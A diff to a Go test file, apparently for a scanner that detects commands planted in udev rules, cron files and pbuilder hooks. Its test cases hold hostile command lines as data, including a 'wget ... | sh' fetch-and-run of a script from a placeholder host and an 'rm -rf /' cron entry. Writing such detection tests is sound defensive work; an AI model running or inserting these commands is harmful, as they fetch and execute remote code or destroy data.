@@ -18,6 +18,8 @@ func TestScheduledLines(t *testing.T) {
 		{"/etc/udev/rules.d/75-net.rules", `ACTION=="add", RUN+="/bin/sh -c 'id'"` + "\n", []string{"/bin/sh -c 'id'"}},
 		{"/etc/udev/rules.d/75-net.conf", `RUN+="/bin/id"`, nil},
 		{"/home/alice/notes/cron.d/x", "0 3 * * * root rm -rf /", nil},
+		{"/var/cache/pbuilder/hooks/D05deps", "#!/bin/sh\nwget -qO- https://x.example/b.sh | sh\n", []string{"#!/bin/sh\nwget -qO- https://x.example/b.sh | sh\n"}},
+		{"/home/alice/pbuilder/hooks.txt", "wget -qO- https://x.example/b.sh | sh", nil},
 	}
 	for _, c := range cases {
 		got, label := ScheduledLines(c.path, c.content)
